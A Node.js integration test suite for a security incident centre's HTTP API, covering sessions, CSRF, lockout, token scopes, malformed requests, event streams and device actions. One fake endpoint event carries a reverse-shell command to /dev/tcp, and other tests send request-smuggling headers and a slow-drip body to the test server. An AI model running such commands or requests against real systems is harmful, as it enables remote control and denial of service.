// timeout: 600
// The HTTP shell against the real centre: sessions, limits, hostile requests, live changes.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { request } from 'node:https';
import { connect } from 'node:tls';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';

import { Client, until } from '../lib/client.mjs';
import { Centre, event, send, sleep } from '../wire/centre.mjs';

const TOP = resolve(new URL('.', import.meta.url).pathname, '../..');
/** @type {Centre} */
let centre;
let ca;
let analyst, other; /* signed in: Client */
let cookie, csrf;
const CHOSEN = 'mikan to kaki 2026';

const account = (role, n = 0) => centre.accounts.filter((row) => row.role === role)[n];
const ask = (method, path, { headers = {}, body, ...tls } = {}) =>
	send(`${centre.people}${path}`, {
		method, body, ca, headers: body === undefined ? headers : { 'Content-Length': Buffer.byteLength(body), ...headers }, ...tls,
	}).then((answer) => ({
		...answer, json: /json/.test(answer.headers['content-type'] ?? '') && answer.text ? JSON.parse(answer.text) : null,
	}));
const code = (answer) => answer.json?.error?.code;
const asAnalyst = (more = {}) => ({ Cookie: cookie, 'Hikeshi-CSRF': csrf, 'Content-Type': 'application/json', ...more });
const signIn = (mail, password, headers = {}) => ask('POST', '/v1/session', {
	headers: { 'Content-Type': 'application/json', ...headers }, body: JSON.stringify({ mail, password }),
});

before(async () => {
	centre = new Centre({ arguments: ['--rules', join(TOP, 'rules/sigma')] });
	centre.sample();
	await centre.start();
	ca = readFileSync(centre.ca);
	analyst = new Client(centre.people, centre.ca);
	await analyst.signIn(account('analyst').mail, account('analyst').password, CHOSEN);
	const answer = await signIn(account('analyst').mail, CHOSEN);
	assert.equal(answer.status, 200, answer.text);
	cookie = answer.headers['set-cookie'][0].split(';')[0];
	csrf = answer.json.csrf;
});
after(() => centre?.done());

// ---- signing in ----

test('the cookie is bound to this host, secure, and not for scripts', async () => {
	const answer = await signIn(account('analyst').mail, CHOSEN);
	const set = answer.headers['set-cookie'][0];
	assert.match(set, /^__Host-hikeshi=[\w-]{43}; Path=\/; Max-Age=43200; Secure; HttpOnly; SameSite=Strict$/);
	assert.equal(answer.headers['cache-control'], 'no-store');
	assert.equal(answer.headers['x-content-type-options'], 'nosniff');
});

test('mail addresses are taken in any case of letters', async () => {
	const answer = await signIn(account('analyst').mail.toUpperCase(), CHOSEN);
	assert.equal(answer.status, 200);
});

test('a one-time password opens nothing but the way to one\'s own', async () => {
	const desk = account('desk');
	const first = await signIn(desk.mail, desk.password);
	assert.equal(first.json.must_change_password, true);
	const headers = { Cookie: first.headers['set-cookie'][0].split(';')[0], 'Hikeshi-CSRF': first.json.csrf, 'Content-Type': 'application/json' };
	assert.equal(code(await ask('GET', '/v1/incidents', { headers })), 'password_change_needed');
	const change = (current, fresh) => ask('POST', '/v1/session/password', { headers, body: JSON.stringify({ current, new: fresh }) });
	assert.equal(code(await change('wrong', 'a whole new password')), 'current_password_wrong');
	assert.equal(code(await change(desk.password, desk.password)), 'password_same');
	assert.equal(code(await change(desk.password, 'aaaaaaaaaaaaaaaa')), 'password_weak');
	assert.equal(code(await change(desk.password, 'short')), 'too_short');
	const changed = await change(desk.password, 'a whole new password');
	assert.equal(changed.status, 200);
	assert.equal(changed.json.must_change_password, false);
	/* the session before is gone, and so is the one-time password */
	assert.equal(code(await ask('GET', '/v1/me', { headers })), 'session_over');
	assert.equal(code(await signIn(desk.mail, desk.password)), 'bad_credentials');
	const again = { Cookie: changed.headers['set-cookie'][0].split(';')[0] };
	assert.equal((await ask('GET', '/v1/incidents', { headers: again })).status, 200);
});

test('five failures lock an account for this address, with one answer for known and unknown', async () => {
	const mail = account('secretariat').mail;
	const words = new Set();
	for (let i = 0; i < 5; i++) words.add(JSON.stringify((await signIn(mail, 'wrong')).json));
	words.add(JSON.stringify((await signIn('nobody@nowhere.example', 'wrong')).json));
	assert.equal(words.size, 1);
	const locked = await signIn(mail, account('secretariat').password);
	assert.equal(locked.status, 429);
	assert.equal(code(locked), 'too_many_attempts');
	assert.ok(Number(locked.headers['retry-after']) > 0);
	/* the others are not touched */
	assert.equal((await signIn(account('analyst').mail, CHOSEN)).status, 200);
	const trail = await ask('GET', '/v1/audit?action=session_create&result=refused', { headers: { Cookie: cookie } });
	assert.ok(trail.json.items.some((row) => row.object.kind === 'person'));
});

test('thirty people sign in at once', async () => {
	const all = await Promise.all(Array.from({ length: 30 }, () => signIn(account('analyst').mail, CHOSEN)));
	assert.deepEqual([...new Set(all.map((answer) => answer.status))], [200]);
	/* 20 sessions a person: the first went */
	assert.equal((await analyst.send('GET', '/v1/me')).status, 401);
	await analyst.signIn(account('analyst').mail, CHOSEN);
	const answer = await signIn(account('analyst').mail, CHOSEN);
	cookie = answer.headers['set-cookie'][0].split(';')[0];
	csrf = answer.json.csrf;
});

test('signing out ends the session', async () => {
	const answer = await signIn(account('analyst').mail, CHOSEN);
	const headers = { Cookie: answer.headers['set-cookie'][0].split(';')[0], 'Hikeshi-CSRF': answer.json.csrf };
	assert.equal((await ask('DELETE', '/v1/session', { headers })).status, 204);
	assert.equal(code(await ask('GET', '/v1/me', { headers })), 'session_over');
});

test('a change by cookie needs the CSRF value', async () => {
	const body = '{"language":"ja"}';
	for (const value of [undefined, '', 'x', csrf.slice(1) + '0', csrf.toUpperCase() + 'x']) {
		const headers = asAnalyst();
		if (value === undefined) delete headers['Hikeshi-CSRF'];
		else headers['Hikeshi-CSRF'] = value;
		const answer = await ask('PATCH', '/v1/me', { headers, body });
		assert.equal(code(answer), 'csrf', String(value));
	}
	assert.equal((await ask('PATCH', '/v1/me', { headers: asAnalyst(), body })).status, 200);
});

test('two session cookies count as none', async () => {
	assert.equal(code(await ask('GET', '/v1/me', { headers: { Cookie: `${cookie}; ${cookie}` } })), 'unauthenticated');
});

test('errors speak the reader\'s language', async () => {
	const english = await ask('GET', '/v1/me', { headers: { 'Accept-Language': 'en-US,en;q=0.9' } });
	assert.equal(english.json.error.message, 'Sign in first.');
	const japanese = await ask('GET', '/v1/me');
	assert.equal(japanese.json.error.message, 'サインインしてください。');
});

test('one page is of one language: that of its calls, whatever another browser chose', async () => {
	const said = async (accept) => {
		const answer = await ask('GET', '/v1/incidents/none', { headers: asAnalyst(accept ? { 'Accept-Language': accept } : {}) });
		return answer.json.error.message;
	};
	const change = (language) => ask('PATCH', '/v1/me', { headers: asAnalyst({ 'Content-Type': 'application/json' }), body: JSON.stringify({ language }) });
	const japanese = await said('ja');
	assert.equal((await change('en')).status, 200);
	const english = await said('en');
	assert.notEqual(english, japanese);
	assert.equal(await said('ja'), japanese);
	assert.equal(await said('fr'), english, 'the account where the call says neither');
	assert.equal((await change('ja')).status, 200);
	assert.equal(await said('en'), english);
	assert.equal(await said('fr'), japanese);
});

// ---- API tokens ----

test('API tokens: scope, revocation, and no CSRF', async () => {
	const made = await analyst.ask('POST', '/v1/tokens', { name: '夜間の集計', scope: ['incident.read', 'incident.note'] });
	assert.match(made.secret, /^hkt_[\w-]{43}$/);
	const headers = { Authorization: `Bearer ${made.secret}` };
	assert.equal((await ask('GET', '/v1/incidents', { headers })).status, 200);
	const missing = await ask('GET', '/v1/devices', { headers });
	assert.equal(missing.status, 403);
	assert.equal(code(missing), 'scope_missing');
	assert.match(missing.json.error.message, /\(device\.read\)/, 'which one');
	assert.equal(code(await ask('GET', '/v1/tokens', { headers })), 'session_only');
	const list = await analyst.ask('GET', '/v1/tokens');
	assert.ok(!JSON.stringify(list).includes(made.secret));
	assert.equal((await analyst.send('DELETE', `/v1/tokens/${made.id}`)).status, 204);
	assert.equal(code(await ask('GET', '/v1/incidents', { headers })), 'bad_token');
	assert.equal(code(await ask('GET', '/v1/incidents', { headers: { Authorization: 'Basic eA==' } })), 'bad_token');
	assert.equal(code(await ask('GET', '/v1/incidents', { headers: { Authorization: 'Bearer ' + 'x'.repeat(5000) } })), 'bad_token');
});

test('a person has at most 50 tokens', async () => {
	const left = 50 - (await analyst.ask('GET', '/v1/tokens')).items.filter((row) => row.revoked === null).length;
	for (let i = 0; i < left; i++)
		await analyst.ask('POST', '/v1/tokens', { name: `${i}`, scope: ['incident.read'] });
	const answer = await analyst.send('POST', '/v1/tokens', { name: 'x', scope: ['incident.read'] });
	assert.equal(answer.body.error.code, 'too_many_tokens');
});

// ---- the form of requests ----

const post = (body, more = {}) => ask('PATCH', '/v1/me', { headers: asAnalyst(more), body });
const BODIES = [
	['not JSON', '{', 'bad_json', 400],
	['a member twice', '{"language":"ja","language":"en"}', 'bad_json', 400],
	['bad UTF-8', Buffer.from('{"language":"\xff"}', 'latin1'), 'bad_json', 400],
	['a NUL', '{"language":"j\\u0000a"}', 'bad_json', 400],
	['something behind it', '{"language":"ja"} x', 'bad_json', 400],
	['very deep', '['.repeat(8000), 'bad_json', 400],
	['a list', '[]', 'wrong_type', 400],
	['an unknown member', '{"language":"ja","role":"administrator"}', 'unknown_member', 400],
	['a missing member', '{}', 'missing', 400],
	['another type', '{"language":1}', 'wrong_type', 400],
	['a value that is not listed', '{"language":"fr"}', 'not_listed', 422],
	['nothing', '', 'body_missing', 400],
	['one byte too many', `{"language":"ja"}${' '.repeat(16384 - 16)}`, 'body_too_large', 413],
];
for (const [name, body, wanted, status] of BODIES)
	test(`a body that is ${name}`, async () => {
		const answer = await post(body);
		assert.equal(code(answer), wanted, answer.text);
		assert.equal(answer.status, status);
	});

test('a body at its limit', async () => {
	assert.equal((await post(`{"language":"ja"}${' '.repeat(16384 - 17)}`)).status, 200);
});

test('a body of another type, and one that is not wanted', async () => {
	assert.equal(code(await post('language=ja', { 'Content-Type': 'application/x-www-form-urlencoded' })), 'content_type');
	assert.equal(code(await ask('DELETE', '/v1/session', { headers: asAnalyst(), body: '{}' })), 'body_unexpected');
});

const QUERIES = [
	['limit=0', 'out_of_range', 'limit'], ['limit=201', 'out_of_range', 'limit'], ['limit=x', 'wrong_type', 'limit'],
	['limit=1&limit=1', 'parameter_twice', 'limit'], ['sort=name', 'unknown_parameter', 'sort'],
	['state=lost', 'not_listed', 'state'], ['company=1', 'bad_form', 'company'], ['cursor=%21', 'bad_form', 'cursor'],
	['cursor=AAAA', 'bad_cursor', 'cursor'], ['from=yesterday', 'bad_instant', 'from'], ['q=', 'empty', 'q'],
	['q=%zz', 'bad_query', null], [`q=${'x'.repeat(101)}`, 'too_long', 'q'], ['q=%00', 'bad_query', null], ['q=a%0Ab', 'control_character', 'q'],
];
for (const [query, wanted, field] of QUERIES)
	test(`the query ${query.slice(0, 30)}`, async () => {
		const answer = await ask('GET', `/v1/incidents?${query}`, { headers: { Cookie: cookie } });
		assert.equal(code(answer), wanted, answer.text);
		assert.equal(answer.json.error.field, field);
	});

test('paths and methods that are not there', async () => {
	const headers = { Cookie: cookie };
	for (const path of ['/v1/', '/v1/incidents/', '/v1//incidents', '/v1/me/x', '/v1/devices/not-an-id', '/v1/devices/00000000-0000-0000-0000-000000000000'])
		assert.equal((await ask('GET', path, { headers })).status, 404, path);
	const answer = await ask('PUT', '/v1/me', { headers });
	assert.equal(answer.status, 405);
	assert.equal(answer.headers.allow, 'GET, PATCH');
	for (const method of ['HEAD', 'OPTIONS', 'TRACE'])
		assert.ok((await ask(method, '/v1/me', { headers })).status >= 400, method);
});

/** Sends bytes as they are; resolves to what came back until the other side closed or ms passed. */
function raw(bytes, ms = 5000) {
	return new Promise((done) => {
		const parts = [];
		const socket = connect({ host: '127.0.0.1', port: centre.peoplePort, ca }, () => socket.write(bytes));
		const end = () => { socket.destroy(); done(Buffer.concat(parts).toString('latin1')); };
		socket.on('data', (part) => parts.push(part));
		socket.on('error', end);
		socket.on('close', end);
		setTimeout(end, ms);
	});
}

test('heads that are no HTTP, or too much of it', async () => {
	const head = 'GET /v1/health HTTP/1.1\r\nHost: x\r\n';
	for (const bytes of ['\0\0\0\0\r\n\r\n', 'GET\r\n\r\n', 'GET /v1/health HTTP/9.9\r\n\r\n', `${head}X: ${'a'.repeat(70000)}\r\n\r\n`,
		`${head}${'X: y\r\n'.repeat(2000)}\r\n`, `GET /v1/health?${'a'.repeat(60000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
		'POST /v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
		'POST /v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'])
		assert.doesNotMatch(await raw(bytes, 1500), /^HTTP\/1\.1 (2|50[0-2])/, bytes.slice(0, 40));
	assert.match(await raw(`${head}Connection: close\r\n\r\n`), /^HTTP\/1\.1 200/);
});

test('a body of one byte every two seconds is cut', async () => {
	const start = Date.now();
	const gone = await new Promise((done) => {
		const socket = connect({ host: '127.0.0.1', port: centre.peoplePort, ca }, () => {
			socket.write('POST /v1/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n');
			const drip = setInterval(() => socket.write('x'), 2000);
			const end = () => { clearInterval(drip); socket.destroy(); done(Date.now() - start); };
			socket.on('data', end);
			socket.on('error', end);
			socket.on('close', end);
			setTimeout(() => { clearInterval(drip); socket.destroy(); done(null); }, 40000);
		});
	});
	assert.ok(gone !== null && gone < 30000, `still there after ${gone} ms`);
	assert.equal((await ask('GET', '/v1/health')).status, 200);
});

test('no header of a stranger makes a device of him', async () => {
	const headers = { 'X-Client-Verify': 'SUCCESS', 'X-Client-Serial': '01' };
	const answer = await send(`${centre.devices}/v1/orders?after=0`, { ca, headers });
	assert.equal(answer.status, 401);
	assert.match(answer.text, /certificate_missing/);
	assert.equal((await ask('GET', '/v1/orders?after=0', { headers })).status, 404);
});

// ---- changes as they happen ----

/** Listens; .text grows until .close(). */
function listen(headers, path = '/v1/live') {
	const stream = { text: '', status: 0, ended: false, waiters: [] };
	stream.request = request(`${centre.people}${path}`, { ca, headers, agent: false }, (answer) => {
		stream.status = answer.statusCode;
		stream.type = answer.headers['content-type'];
		answer.on('data', (part) => { stream.text += part; });
		answer.on('error', () => { stream.ended = true; });
		answer.on('end', () => { stream.ended = true; });
	});
	stream.request.on('error', () => { stream.ended = true; });
	stream.request.end();
	stream.close = () => stream.request.destroy();
	stream.has = (text, seconds = 10) => until(seconds, async () => stream.text.includes(text), 20);
	return stream;
}

test('a detection is heard by its own people within a second, and by no other', async () => {
	other = new Client(centre.people, centre.ca);
	await other.signIn(account('owner').mail, account('owner').password, CHOSEN);
	const foreign = await signIn(account('analyst', 1).mail, account('analyst', 1).password)
		.then((answer) => ask('POST', '/v1/session/password', {
			headers: { Cookie: answer.headers['set-cookie'][0].split(';')[0], 'Hikeshi-CSRF': answer.json.csrf, 'Content-Type': 'application/json' },
			body: JSON.stringify({ current: account('analyst', 1).password, new: 'betsu no kaisha 2026' }),
		}));
	const ours = listen({ Cookie: cookie }), theirs = listen({ Cookie: foreign.headers['set-cookie'][0].split(';')[0] });
	assert.ok(await ours.has(': hello') && await theirs.has(': hello'));
	assert.match(ours.type, /^text\/event-stream/);
	const machine = centre.enrol();
	await machine.batch([event()]);
	const start = Date.now();
	await machine.batch([event({ Image: '/usr/bin/bash', CommandLine: 'bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"', ProcessGuid: '{00000001-1111-2222-3333-444444444444}' })]);
	assert.ok(await ours.has('event: incident'), 'no incident on the stream');
	const ms = Date.now() - start;
	assert.ok(ms < 1000, `${ms} ms`);
	const list = await analyst.ask('GET', '/v1/incidents');
	assert.ok(ours.text.includes(list.items[0].id));
	/* resume: nothing that was heard comes again */
	const last = /[^]*^id: (\S+)$/m.exec(ours.text)[1];
	ours.close();
	await analyst.ask('POST', `/v1/incidents/${list.items[0].id}/notes`, { text: '見た' });
	const again = listen({ Cookie: cookie, 'Last-Event-ID': last });
	assert.ok(await again.has('event: incident'));
	assert.equal(again.text.split('event: ').length, 2, again.text);
	again.close();
	const strange = listen({ Cookie: cookie, 'Last-Event-ID': '00000000-5' });
	assert.ok(await strange.has('event: reset'));
	strange.close();
	await sleep(300);
	assert.ok(!theirs.text.includes('event:'), theirs.text);
	theirs.close();
});

test('a stream ends when its session ends', async () => {
	const answer = await signIn(account('analyst').mail, CHOSEN);
	const own = answer.headers['set-cookie'][0].split(';')[0];
	const stream = listen({ Cookie: own });
	assert.ok(await stream.has(': hello'));
	await ask('DELETE', '/v1/session', { headers: { Cookie: own, 'Hikeshi-CSRF': answer.json.csrf } });
	assert.ok(await until(25, async () => stream.ended), 'still open');
});

test('a person has sixteen streams', async () => {
	const all = Array.from({ length: 17 }, () => listen({ Cookie: cookie }));
	assert.ok(await until(10, async () => all.every((stream) => stream.status > 0)));
	assert.equal(all.filter((stream) => stream.status === 200).length, 16);
	assert.equal(all.filter((stream) => stream.status === 503).length, 1);
	for (const stream of all) stream.close();
	assert.ok(await until(25, async () => {
		const one = listen({ Cookie: cookie });
		const good = await until(3, async () => one.status > 0) && one.status === 200;
		one.close();
		return good;
	}, 1000), 'closed streams still count');
});

// ---- actions ----

test('an action: proposed by the owner, approved and sent by the analyst, and refused twice', async () => {
	const device = (await analyst.ask('GET', '/v1/devices')).items[0].id;
	const wish = { kind: 'isolate', reason: '念のため' };
	const made = await other.ask('POST', `/v1/devices/${device}/actions`, wish);
	assert.equal(made.state, 'proposed');
	assert.equal((await other.send('POST', `/v1/actions/${made.id}/approve`, {})).status, 403);
	assert.equal((await other.send('POST', `/v1/devices/${device}/actions`, { ...wish, send: true })).status, 403);
	assert.equal((await analyst.send('POST', `/v1/actions/${made.id}/send`)).status, 409);
	assert.equal((await analyst.ask('POST', `/v1/actions/${made.id}/approve`, {})).state, 'approved');
	const sent = await analyst.ask('POST', `/v1/actions/${made.id}/send`);
	assert.equal(sent.state, 'sent');
	assert.equal((await analyst.send('POST', `/v1/actions/${made.id}/send`)).status, 409);
	assert.equal((await analyst.send('POST', `/v1/devices/${device}/actions`, { kind: 'kill', reason: 'x' })).body.error.code, 'process_needed');
	const kill = await analyst.ask('POST', `/v1/devices/${device}/actions`, { kind: 'kill', reason: 'x', process: '{00000001-1111-2222-3333-444444444444}', send: true });
	assert.equal(kill.state, 'sent');
	const collect = await analyst.ask('POST', `/v1/devices/${device}/actions`, { kind: 'collect', reason: 'x' });
	assert.equal((await analyst.ask('POST', `/v1/actions/${collect.id}/refuse`, { reason: '不要' })).state, 'refused');
	const trail = (await analyst.ask('GET', '/v1/audit?limit=200')).items;
	for (const action of ['device_action_propose', 'action_approve', 'action_send', 'action_refuse'])
		assert.ok(trail.some((row) => row.action === action && row.result === 'done'), action);
});

test('an incident: version, assignment, state, false positive with a reason', async () => {
	const incident = (await analyst.ask('GET', '/v1/incidents')).items[0];
	const at = `/v1/incidents/${incident.id}`;
	const people = (await analyst.ask('GET', `${at}/candidates`)).items;
	const me = (await analyst.ask('GET', '/v1/me')).id;
	assert.ok(people.some((row) => row.id === me));
	const assigned = await analyst.ask('PUT', `${at}/assignee`, { person: me, version: incident.version });
	assert.equal(assigned.assignee.id, me);
	assert.equal(assigned.state, 'assigned');
	assert.equal((await analyst.send('PUT', `${at}/assignee`, { person: me, version: incident.version })).status, 409);
	assert.equal((await analyst.send('PUT', `${at}/state`, { state: 'false_positive', version: assigned.version })).body.error.code, 'reason_needed');
	const done = await analyst.ask('PUT', `${at}/state`, { state: 'false_positive', version: assigned.version, reason: '訓練' });
	assert.equal(done.state, 'false_positive');
	assert.equal((await analyst.ask('GET', '/v1/incidents?state=open')).items.length, 0);
	assert.equal((await analyst.ask('GET', `/v1/incidents?assignee=me`)).items.length, 1);
	const nobodys = (await analyst.ask('GET', `/v1/incidents?assignee=none`)).items;
	assert.ok(nobodys.every((i) => i.assignee === null) && !nobodys.some((i) => i.id === incident.id), 'none are those that nobody has taken');
	const detail = await analyst.ask('GET', at);
	assert.equal(detail.notes.length, 1);
	const line = await analyst.ask('GET', `${at}/timeline`);
	for (const kind of ['detection', 'note', 'assigned', 'state'])
		assert.ok(line.items.some((row) => row.kind === kind), kind);
	const times = line.items.map((row) => row.at);
	assert.ok(times.length > 3);
});

// ---- the end ----

test('the centre ends within five seconds, also while people and devices listen', async () => {
	const machine = centre.enrol(await centre.makeToken(analyst, (await analyst.ask('GET', '/v1/companies')).items[0].id));
	const waiting = machine.orders(0, 60).catch((error) => ({ error }));
	const stream = listen({ Cookie: cookie });
	assert.ok(await stream.has(': hello'));
	await sleep(300);
	const end = await centre.stop();
	assert.ok(end.ms < 5000, `${end.ms} ms`);
	assert.equal(end.status, 0);
	await waiting;
	assert.doesNotMatch(centre.tail(), /AddressSanitizer|runtime error/);
});
